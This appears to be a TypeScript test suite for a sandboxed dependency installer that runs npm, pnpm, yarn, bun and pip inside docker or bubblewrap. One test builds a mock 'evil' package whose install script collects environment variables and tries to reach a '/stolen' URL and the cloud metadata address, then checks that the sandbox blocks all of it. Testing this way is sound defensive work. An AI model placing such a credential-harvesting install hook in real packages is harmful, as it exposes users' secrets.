import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { dirname, join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import { ConfigProvider, Effect, Layer } from "effect"
import { layer as bubblewrap } from "../sandbox/Sandbox.bubblewrap.ts"
import { layer as docker } from "../sandbox/Sandbox.docker.ts"
import { Sandbox } from "../sandbox/Sandbox.ts"
import type { Installer } from "./install-commands.ts"
import { type InstallRequest, installDependencies } from "./install-dependencies.ts"
import { packNpm, packWheel, serveIndex, serveNpm, serveTrouble } from "./registry-fixture.ts"

const environment = { PATH: Bun.env["PATH"] ?? "", HOME: Bun.env["HOME"] ?? "", CI_HEALING_SANDBOX_OWNER: "suite-install" }

const directory = Effect.acquireRelease(
  Effect.promise(() => mkdtemp(join(tmpdir(), "ci-fix-pilot-install-"))),
  (path) => Effect.promise(() => rm(path, { recursive: true, force: true })),
)

/** Installs a project made of `files`, then runs `command` over the result. */
const install = (installer: Installer, files: Readonly<Record<string, string>>, limits: InstallRequest["limits"] = {}) =>
  Effect.gen(function* () {
    const manifestsDir = yield* directory
    yield* Effect.promise(async () => {
      for (const [name, text] of Object.entries(files)) {
        await mkdir(dirname(join(manifestsDir, name)), { recursive: true })
        await writeFile(join(manifestsDir, name), text)
      }
    })
    const targetDir = yield* directory
    const installed = yield* installDependencies({
      label: "install",
      installer,
      manifestsDir,
      proxyDir: yield* directory,
      targetDir,
      limits,
    })
    const tried = (command: string) =>
      Sandbox.use((sandbox) => sandbox.run({ label: "try", command, root: targetDir, env: installed.env, path: installed.path }))
    return { installed, targetDir, tried }
  })

const layers = { docker, bubblewrap }
const inside = (name: keyof typeof layers, settings: Readonly<Record<string, string>> = {}) =>
  Effect.provide(layers[name].pipe(Layer.provideMerge(ConfigProvider.layer(ConfigProvider.fromEnvRecord({ ...environment, ...settings })))))

const leftPad = { name: "project", version: "1.0.0", dependencies: { "left-pad": "1.3.0" }, scripts: { postinstall: "exit 9" } }
const integrity = "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQGinBN9yTQT3bFlCBy/aVx2HrNcqQGsdot8ghrjyrvMCoEA=="
const lockfile = (digest: string) =>
  JSON.stringify({
    name: "project",
    version: "1.0.0",
    lockfileVersion: 3,
    packages: {
      "": { name: "project", version: "1.0.0", dependencies: leftPad.dependencies },
      "node_modules/left-pad": {
        version: "1.3.0",
        resolved: "https://packages.test/left-pad/-/left-pad-1.3.0.tgz",
        integrity: digest,
      },
    },
  })
const padded = "node -p 'require(\"left-pad\")(7, 3, 0)'"

describe.each(["docker", "bubblewrap"] as const)("installing in %s", (name) => {
  it.live.each(name === "docker" ? (["npm", "pnpm", "yarn", "bun"] as const) : (["npm", "bun"] as const))(
    "%s installs from the machine's registry and leaves nothing but node_modules",
    (installer) =>
      Effect.gen(function* () {
        const { installed, targetDir, tried } = yield* install(installer, { "package.json": JSON.stringify(leftPad) })
        expect(installed).toMatchObject({ by: expect.stringContaining(`${installer} install`), notes: [] })
        expect(yield* Effect.promise(() => readdir(targetDir))).toEqual(["node_modules"])
        expect((yield* tried(padded)).output.text).toBe("007\n")
      }).pipe(inside(name)),
  )

  it.live("keeps what belongs to each workspace, and nothing of its sources", () =>
    Effect.gen(function* () {
      const member = { name: "@project/member", version: "1.0.0", dependencies: { "left-pad": "1.1.3" } }
      const { targetDir, tried } = yield* install("npm", {
        "package.json": JSON.stringify({ ...leftPad, workspaces: ["packages/*"] }),
        "packages/member/package.json": JSON.stringify(member),
      })
      const versions = "find . -path '*/left-pad/package.json' | sort | xargs grep -h '\"version\"'; readlink node_modules/@project/member"
      expect((yield* tried(versions)).output.text.replaceAll(/[ ",]/gu, "")).toBe("version:1.3.0\nversion:1.1.3\n../../packages/member\n")
      expect(yield* Effect.promise(() => readdir(join(targetDir, "packages/member")))).toEqual(["node_modules"])
    }).pipe(inside(name)),
  )

  it.live("follows a lockfile, whatever registry it was written for", () =>
    Effect.gen(function* () {
      const { installed, tried } = yield* install("npm", {
        "package.json": JSON.stringify(leftPad),
        "package-lock.json": lockfile(integrity),
      })
      expect(installed.by).toBe("npm ci")
      expect((yield* tried(padded)).output.text).toBe("007\n")
    }).pipe(inside(name)),
  )

  it.live("uses the lockfile in another way when npm ci refuses it, and says so", () =>
    Effect.gen(function* () {
      const manifest = { ...leftPad, dependencies: { ...leftPad.dependencies, "is-odd": "3.0.1" } }
      const { installed } = yield* install("npm", { "package.json": JSON.stringify(manifest), "package-lock.json": lockfile(integrity) })
      expect(installed.by).toBe("npm install")
      expect(installed.notes[0]).toContain("npm ci refused")
    }).pipe(inside(name)),
  )

  it.live("refuses a package that is not what the lockfile promised", () =>
    Effect.gen(function* () {
      const poisoned = lockfile(`sha512-${"A".repeat(86)}==`)
      const failure = yield* Effect.flip(install("npm", { "package.json": JSON.stringify(leftPad), "package-lock.json": poisoned }))
      expect(failure).toMatchObject({ _tag: "InstallFailed", kind: "refused", output: expect.stringContaining("EINTEGRITY") })
    }).pipe(inside(name)),
  )

  it.live("installs wheels with pip where a try finds them", () =>
    Effect.gen(function* () {
      const index = yield* serveIndex(yield* packWheel("demo", "def answer(): return 42"))
      const requirements = { "requirements.txt": "demo==1.0\n" }
      yield* Effect.gen(function* () {
        const { installed, targetDir, tried } = yield* install("pip", requirements)
        expect(installed.notes).toEqual([])
        expect(yield* Effect.promise(() => readdir(targetDir))).toEqual([".python"])
        expect((yield* tried("python3 -c 'import demo; print(demo.answer())'")).output.text).toBe("42\n")
      }).pipe(inside(name, { CI_HEALING_PIP_INDEX: index.url }))
    }),
  )

  it.live("lets a dependency's script run, but reach nothing and nobody, and see no credential", () =>
    Effect.gen(function* () {
      const script = `
        const { writeFileSync } = require("node:fs")
        const report = { environment: Object.entries(process.env).join(), reached: [] }
        const targets = [process.env.npm_config_registry, "http://127.0.0.1:PORT/stolen", "http://169.254.169.254/"]
        Promise.all(targets.map((url) => fetch(url, { signal: AbortSignal.timeout(3000) }).then(() => report.reached.push(url), () => {})))
          .then(() => writeFileSync("report.json", JSON.stringify(report)))`
      const pack = (port: number) =>
        packNpm({ name: "evil", version: "1.0.0", scripts: { install: "node run.js" } }, { "run.js": script.replace("PORT", String(port)) })
      const registry = yield* serveNpm("evil", pack, "s3cret-token")
      const settings = { CI_HEALING_NPM_REGISTRY: registry.url, CI_HEALING_NPM_TOKEN: "s3cret-token" }
      yield* Effect.gen(function* () {
        const { installed, targetDir } = yield* install("npm", { "package.json": JSON.stringify({ dependencies: { evil: "1.0.0" } }) })
        expect(installed.notes).toEqual([])
        const report = yield* Effect.promise(() => readFile(join(targetDir, "node_modules/evil/report.json"), "utf8"))
        expect(JSON.parse(report)).toMatchObject({ reached: [] })
        expect(report).not.toContain("s3cret-token")
        expect(registry.asked()).not.toContain("/stolen")
      }).pipe(inside(name, settings))
    }),
  )

  it.live("lets one script that fails cost no other its own, and names it", () =>
    Effect.gen(function* () {
      const script = `if (__dirname.endsWith("bad")) process.exit(1)
        setTimeout(() => require("node:fs").writeFileSync("built", ""), 500)`
      const pack = () => packNpm({ name: "built", version: "1.0.0", scripts: { install: "node run.js" } }, { "run.js": script })
      const registry = yield* serveNpm("built", pack, undefined)
      const dependencies = { bad: "npm:built@1.0.0", good: "npm:built@1.0.0" }
      const { installed, tried } = yield* install("npm", { "package.json": JSON.stringify({ dependencies }) }).pipe(
        inside(name, { CI_HEALING_NPM_REGISTRY: registry.url }),
      )
      expect(installed.notes).toEqual([expect.stringMatching(/install scripts that failed: bad$/u)])
      expect((yield* tried("ls node_modules/*/built")).output.text).toBe("node_modules/good/built\n")
    }).pipe(inside(name)),
  )

  it.live("asks no host but the registry, and only reads there", () =>
    Effect.gen(function* () {
      const other = yield* serveNpm("other", () => packNpm({ name: "other", version: "1.0.0" }, {}), undefined)
      const manifest = { dependencies: { other: `${other.url}archive/no-such-archive.tar.gz` } }
      const failure = yield* Effect.flip(install("npm", { "package.json": JSON.stringify(manifest) }).pipe(inside(name)))
      expect(failure).toMatchObject({ _tag: "InstallFailed" })
      expect(other.asked()).toEqual([])
    }),
  )

  it.live("says so when the registry cannot be reached", () =>
    Effect.gen(function* () {
      const failure = yield* Effect.flip(install("npm", { "package.json": JSON.stringify(leftPad) }))
      expect(failure).toMatchObject({ _tag: "InstallFailed", kind: "registry-unreachable", reason: expect.stringContaining("127.0.0.1:1") })
    }).pipe(inside(name, { CI_HEALING_NPM_REGISTRY: "http://127.0.0.1:1/" })),
  )

  it.live("takes a registry in trouble for one that cannot be reached", () =>
    Effect.gen(function* () {
      const registry = yield* serveTrouble(503)
      const failure = yield* Effect.flip(
        install("npm", { "package.json": JSON.stringify(leftPad) }).pipe(inside(name, { CI_HEALING_NPM_REGISTRY: registry.url })),
      )
      expect(failure).toMatchObject({ _tag: "InstallFailed", kind: "registry-unreachable", reason: expect.stringContaining("503") })
    }),
  )

  it.live("stops an installation that takes too much", () =>
    Effect.gen(function* () {
      const failure = yield* Effect.flip(install("npm", { "package.json": JSON.stringify(leftPad) }, { timeoutMs: 100 }))
      expect(failure).toMatchObject({ _tag: "InstallFailed", kind: "limit" })
    }).pipe(inside(name)),
  )
})
